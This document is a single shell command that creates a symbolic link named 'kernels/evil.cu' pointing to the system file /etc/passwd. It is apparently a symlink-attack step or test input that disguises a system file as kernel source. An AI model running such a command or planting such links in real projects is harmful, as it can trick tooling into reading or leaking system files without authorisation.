ln -s /etc/passwd kernels/evil.cu
